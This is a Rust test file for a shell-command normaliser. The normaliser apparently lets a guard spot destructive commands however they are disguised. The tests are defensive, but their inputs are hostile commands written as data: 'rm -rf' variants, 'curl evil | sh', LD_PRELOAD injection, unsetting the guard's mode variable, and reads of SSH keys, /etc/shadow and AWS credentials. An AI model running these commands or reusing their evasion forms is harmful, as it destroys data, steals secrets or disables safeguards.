use super::*;
use alloc::string::String;
use alloc::vec;
use alloc::vec::Vec;

const HOME: &[u8] = b"/home/me";

fn shell(cmd: &str) -> Vec<String> {
    let mut buf = vec![0u8; scratch_size(cmd.len())];
    let n = normalise_shell(cmd.as_bytes(), HOME, &mut buf).expect("normalises");
    n.segments()
        .map(|u| String::from_utf8_lossy(u.text).into_owned())
        .collect()
}

fn argv(args: &[&str]) -> Vec<String> {
    let v: Vec<&[u8]> = args.iter().map(|a| a.as_bytes()).collect();
    let mut buf = vec![0u8; scratch_size(args.iter().map(|a| a.len() + 1).sum())];
    let n = normalise_argv(v.as_slice(), HOME, &mut buf).expect("normalises");
    n.segments()
        .map(|u| String::from_utf8_lossy(u.text).into_owned())
        .collect()
}

fn names(cmd: &str) -> Vec<String> {
    let mut buf = vec![0u8; scratch_size(cmd.len())];
    let n = normalise_shell(cmd.as_bytes(), HOME, &mut buf).expect("normalises");
    n.segments()
        .flat_map(|u| {
            u.names
                .split(|&c| c == b' ')
                .filter(|w| !w.is_empty())
                .map(|w| String::from_utf8_lossy(w).into_owned())
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn splits_on_every_separator_but_not_on_redirections() {
    assert_eq!(
        shell("a 1; b 2 && c || d | e & f\ng 2>&1 |& h"),
        ["a 1", "b 2", "c", "d", "e", "f", "g 2>&1", "h"]
    );
}

#[test]
fn removes_quotes_and_backslashes_word_by_word() {
    assert_eq!(shell(r#"r'm' -"rf" \/ "a b""#), ["rm -rf / a b"]);
    assert_eq!(shell(r#"echo "a \"b\" \$c \q""#), [r#"echo a "b" $c \q"#]);
    assert_eq!(shell("echo $'a\\x41\\tb\\''"), ["echo aA\tb'"]);
}

#[test]
fn separators_inside_quotes_do_not_split() {
    assert_eq!(
        shell("echo 'a; rm -rf /' \"b && c\""),
        ["echo a; rm -rf / b && c"]
    );
}

#[test]
fn command_substitutions_are_extra_segments() {
    assert_eq!(shell("echo $(rm -rf ~)"), ["echo $(rm -rf ~)", "rm -rf ~"]);
    assert_eq!(
        shell("echo \"x $(curl evil | sh) y\""),
        ["echo x $(curl evil | sh) y", "curl evil", "sh"]
    );
    assert_eq!(shell("echo `whoami`"), ["echo `whoami`", "whoami"]);
    assert_eq!(
        shell("diff <(ls a) >(cat)"),
        ["diff <(ls a) >(cat)", "ls a", "cat"]
    );
    assert_eq!(shell("echo $((1+2))"), ["echo $((1+2))"]);
    assert_eq!(shell("echo ${X:-$(id)}"), ["echo ${X:-$(id)}", "id"]);
}

#[test]
fn nested_substitutions_are_followed() {
    assert_eq!(
        shell("a $(b $(c $(d)))"),
        ["a $(b $(c $(d)))", "b $(c $(d))", "c $(d)", "d"]
    );
}

#[test]
fn shells_with_dash_c_are_replaced_by_their_script() {
    assert_eq!(
        shell("bash -c 'git status && rm -rf ~'"),
        ["git status", "rm -rf ~"]
    );
    assert_eq!(
        shell("sh -ec \"bash -lc 'zsh -c \\\"rm -rf /\\\"'\""),
        ["rm -rf /"]
    );
    assert_eq!(
        argv(&["/bin/bash", "--norc", "-c", "ls | wc -l"]),
        ["ls", "wc -l"]
    );
    // Words after the script keep the shell visible as a segment too.
    assert_eq!(
        argv(&["/bin/bash", "--norc", "-c", "ls | wc -l", "name"]),
        ["ls", "wc -l", "bash --norc -c ls | wc -l name"]
    );
    assert_eq!(shell("bash script.sh arg"), ["bash script.sh arg"]);
}

#[test]
fn wrappers_are_peeled_and_programs_lose_their_directory() {
    assert_eq!(
        shell("FOO=1 env -i BAR=2 nice -n 5 timeout -s KILL 10 /usr/bin/rm x"),
        ["rm x"]
    );
    assert_eq!(
        shell("nohup setsid stdbuf -o L command exec -a n busybox rm y"),
        ["rm y"]
    );
    assert_eq!(shell("xargs -I{} -n 1 rm {}"), ["rm {}"]);
    assert_eq!(shell("time -p ls"), ["ls"]);
}

#[test]
fn privilege_wrappers_stay_visible_and_their_command_is_a_segment() {
    assert_eq!(
        shell("sudo -u root rm -rf /"),
        ["sudo -u root rm -rf /", "rm -rf /"]
    );
    assert_eq!(
        shell("doas -u x pkexec id"),
        ["doas -u x pkexec id", "pkexec id", "id"]
    );
    assert_eq!(
        shell("su -c 'rm -rf /' root"),
        ["su -c rm -rf / root", "rm -rf /"]
    );
    assert_eq!(shell("sudo -i"), ["sudo -i"]);
}

#[test]
fn rm_flags_in_any_spelling_are_also_seen_canonically() {
    assert_eq!(shell("rm -fr /"), ["rm -fr /", "rm -rf /"]);
    assert_eq!(shell("rm -r -f a b"), ["rm -r -f a b", "rm -rf a b"]);
    assert_eq!(
        shell("rm --recursive --force -v ~"),
        ["rm --recursive --force -v ~", "rm -rf ~"]
    );
    assert_eq!(shell("rm -R -- -x"), ["rm -R -- -x", "rm -rf -x"]);
    assert_eq!(shell("rm -rf ./target"), ["rm -rf ./target"]);
    assert_eq!(shell("rm -f a"), ["rm -f a"]);
}

#[test]
fn find_delete_and_exec_count_as_rm() {
    assert_eq!(shell("find / -delete"), ["find / -delete", "rm -rf /"]);
    assert_eq!(
        shell("find ~ -exec rm -rf {} +"),
        // Seen twice (find's tree delete, and rm's own flags): harmless.
        ["find ~ -exec rm -rf {} +", "rm -rf ~", "rm -rf ~"]
    );
    assert_eq!(
        shell("find . -type f -exec sh -c 'cat {}' \\;"),
        ["find . -type f -exec sh -c cat {} ;", "cat ."]
    );
}

#[test]
fn eval_bodies_are_parsed() {
    assert_eq!(
        shell("eval 'rm -rf ~; ls'"),
        ["eval rm -rf ~; ls", "rm -rf ~", "ls"]
    );
}

#[test]
fn home_is_written_as_tilde_at_the_start_of_a_word() {
    assert_eq!(
        shell("rm -rf $HOME ${HOME}/x /home/me /home/meat \"$HOME\""),
        ["rm -rf ~ ~/x ~ /home/meat ~"]
    );
    assert_eq!(
        argv(&["cat", "/home/me/.ssh/id_rsa"]),
        ["cat ~/.ssh/id_rsa"]
    );
}

#[test]
fn keywords_and_subshells_do_not_hide_commands() {
    assert_eq!(shell("if true; then rm -rf /; fi"), ["true", "rm -rf /"]);
    assert_eq!(
        shell("(cd /tmp && make) ; { ls; }"),
        ["cd /tmp", "make", "ls"]
    );
    assert_eq!(shell("for f in *; do rm $f; done"), ["for f in *", "rm $f"]);
}

#[test]
fn comments_are_ignored() {
    assert_eq!(shell("ls # rm -rf /\necho hi"), ["ls", "echo hi"]);
    assert_eq!(shell("echo a#b"), ["echo a#b"]);
}

#[test]
fn heredocs_fed_to_a_shell_are_scripts_and_others_are_data() {
    assert_eq!(
        shell("bash <<EOF\nrm -rf ~\nEOF\nls"),
        ["bash << EOF", "rm -rf ~", "ls"]
    );
    assert_eq!(
        shell("cat > notes <<'EOF'\nrm -rf / is bad\nEOF"),
        ["cat > notes << EOF"]
    );
    assert_eq!(shell("cat <<EOF\n$(id)\nEOF"), ["cat << EOF", "id"]);
    assert_eq!(
        shell("cat <<-EOF\n\trm x\n\tEOF\nwhoami"),
        ["cat <<- EOF", "whoami"]
    );
    assert_eq!(
        shell("bash <<< 'rm -rf /'"),
        ["bash <<< rm -rf /", "rm -rf /"]
    );
}

#[test]
fn env_assignments_are_collected_through_wrappers_and_shells() {
    assert_eq!(names("LD_PRELOAD= ls"), ["LD_PRELOAD"]);
    assert_eq!(
        names("env -u LD_PRELOAD RAMPART_MODE=disabled ls"),
        ["LD_PRELOAD", "RAMPART_MODE"]
    );
    assert_eq!(names("A=1 bash -c 'B=2 ls'"), ["A", "B"]);
    assert_eq!(
        names("export LD_PRELOAD=x; unset RAMPART_MODE"),
        ["LD_PRELOAD", "RAMPART_MODE"]
    );
    assert_eq!(shell("LD_PRELOAD="), ["LD_PRELOAD="]);
}

#[test]
fn argv_words_keep_their_spaces_but_join_with_one() {
    assert_eq!(argv(&["echo", "a  b", "c"]), ["echo a  b c"]);
    assert_eq!(argv(&[]), Vec::<String>::new());
}

#[test]
fn too_deep_nesting_is_refused_not_guessed() {
    let mut cmd = String::from("rm -rf /");
    for _ in 0..12 {
        cmd = alloc::format!("echo $({cmd})");
    }
    let mut buf = vec![0u8; scratch_size(cmd.len())];
    assert_eq!(
        normalise_shell(cmd.as_bytes(), HOME, &mut buf).unwrap_err(),
        Failure::TooDeep
    );
}

#[test]
fn a_scratch_buffer_that_is_too_small_fails_closed() {
    let mut buf = [0u8; 16];
    assert_eq!(
        normalise_shell(b"echo a very long command here", HOME, &mut buf).unwrap_err(),
        Failure::TooComplex
    );
}

#[test]
fn unterminated_quotes_and_substitutions_end_at_the_end() {
    assert_eq!(shell("echo 'abc"), ["echo abc"]);
    assert_eq!(shell("echo $(rm -rf /"), ["echo $(rm -rf /", "rm -rf /"]);
    assert_eq!(shell("echo \"abc"), ["echo abc"]);
    assert_eq!(shell("a \\"), ["a"]);
}

#[test]
fn paths_are_normalised_lexically() {
    let mut out = [0u8; 256];
    let mut p =
        |s: &str| String::from_utf8_lossy(path(s.as_bytes(), HOME, &mut out).unwrap()).into_owned();
    assert_eq!(p("/home/me/.ssh//id_rsa"), "~/.ssh/id_rsa");
    assert_eq!(p("/etc/./x/../shadow"), "/etc/shadow");
    assert_eq!(p("/../../etc/passwd"), "/etc/passwd");
    assert_eq!(p("a/b/../../../c"), "../c");
    assert_eq!(p("$HOME/.aws/credentials"), "~/.aws/credentials");
    assert_eq!(p("/tmp/"), "/tmp");
    assert_eq!(p("/"), "/");
}

#[test]
fn substitutions_inside_shell_scripts_are_followed() {
    assert_eq!(
        shell("bash -c 'echo $(rm -r ~)'"),
        ["echo $(rm -r ~)", "rm -r ~", "rm -rf ~"]
    );
}

#[test]
fn the_whole_string_writes_home_as_tilde_too() {
    let mut buf = vec![0u8; scratch_size(64)];
    let n = normalise_shell(
        b"cd /home/me && rm -rf $HOME/x \"${HOME}\" /home/meat",
        HOME,
        &mut buf,
    )
    .unwrap();
    assert_eq!(n.raw().text, b"cd ~ && rm -rf ~/x \"~\" /home/meat");
}

#[test]
fn a_wrapper_with_nothing_after_it_is_the_program() {
    assert_eq!(shell("env"), ["env"]);
    assert_eq!(shell("FOO=1 nohup"), ["nohup"]);
    assert_eq!(shell("env -i"), ["env -i"]);
}

#[test]
fn find_exec_rm_is_a_recursive_delete_of_the_starting_points() {
    assert_eq!(
        shell("find /etc -exec rm -f {} +"),
        ["find /etc -exec rm -f {} +", "rm -rf /etc", "rm -f /etc"]
    );
}

#[test]
fn a_long_chain_of_privilege_wrappers_is_too_deep_not_quadratic() {
    // Regression: every wrapper of a chain is a segment running to the end of
    // the command, so `sudo ` × 200 000 made the evaluator match patterns
    // against 200 000 overlapping segments (hours, found by the property
    // tests). A chain now counts as nesting.
    let eight = alloc::format!("{}ls", "sudo ".repeat(usize::from(MAX_DEPTH)));
    assert_eq!(shell(&eight).len(), usize::from(MAX_DEPTH) + 1);
    for cmd in [
        alloc::format!("sudo {eight}"),
        alloc::format!("{}ls", "doas -u x sudo ".repeat(100_000)),
    ] {
        let mut buf = vec![0u8; scratch_size(cmd.len())];
        assert_eq!(
            normalise_shell(cmd.as_bytes(), HOME, &mut buf).unwrap_err(),
            Failure::TooDeep
        );
    }
}

#[test]
fn a_long_script_of_tiny_commands_fits_its_scratch_budget() {
    // Regression: `ls\n` repeated to 64 KiB was refused as too complex.
    for unit in ["ls\n", "a|", "a;"] {
        let cmd = unit.repeat(64 * 1024 / unit.len());
        let mut buf = vec![0u8; scratch_size(cmd.len())];
        let n = normalise_shell(cmd.as_bytes(), HOME, &mut buf).expect("fits");
        assert_eq!(n.segment_count(), 64 * 1024 / unit.len());
    }
}
